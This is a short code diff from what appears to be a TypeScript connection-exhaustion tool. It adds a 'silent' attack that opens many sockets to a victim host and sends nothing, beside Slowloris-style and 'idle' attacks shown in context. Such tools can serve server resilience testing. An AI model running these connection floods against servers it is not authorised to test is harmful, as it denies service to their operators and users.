@@ -60,6 +60,9 @@ export const attacks: Readonly<Record<string, Attack>> = {
       socket.write(`GET / HTTP/1.1\r\nhost: ${victim.host}\r\nx-a: `);
     }),
 
+  /** Connections on which nothing is said. */
+  "silent": (victim, count, tally) => dialMany(victim, count, tally, (socket) => countAnswers(socket, tally)),
+
   /** One answer each, then nothing. */
   "idle": (victim, count, tally) =>
     dialMany(victim, count, tally, (socket) => {
